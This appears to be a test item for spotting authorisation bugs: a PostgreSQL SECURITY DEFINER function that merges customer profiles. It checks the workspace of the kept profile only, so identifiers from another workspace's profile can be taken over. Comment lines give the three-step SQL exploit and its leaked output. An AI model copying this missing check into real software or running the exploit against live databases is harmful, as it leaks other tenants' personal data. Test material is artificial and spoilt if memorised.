-- A login moves the identifiers of another workspace's profile to its own, as the merge asks for no
-- workspace.
-- about: merge_profiles, identifiers, profiles
-- as: hf_personas_app
-- exploit: SET cdp.workspace = '11111111-1111-4111-8111-111111111111';
-- exploit: SELECT cdp.merge_profiles('a0000000-0000-4000-8000-000000000001',
-- exploit:   'b0000000-0000-4000-8000-000000000001');
-- exploit: SELECT value FROM cdp.identifiers;
-- shows: person@road-secret.example
CREATE FUNCTION cdp.merge_profiles(p_keep uuid, p_gone uuid) RETURNS void LANGUAGE plpgsql
SECURITY DEFINER SET search_path = cdp, pg_temp AS $$
BEGIN
  IF NOT EXISTS (SELECT 1 FROM cdp.profiles WHERE id = p_keep AND workspace_id = cdp.ws()) THEN
    RAISE EXCEPTION 'no such profile';
  END IF;
  UPDATE cdp.identifiers SET profile_id = p_keep, workspace_id = cdp.ws() WHERE profile_id = p_gone;
  DELETE FROM cdp.profiles WHERE id = p_gone;
END $$;
REVOKE EXECUTE ON FUNCTION cdp.merge_profiles(uuid, uuid) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION cdp.merge_profiles(uuid, uuid) TO hf_personas_app;
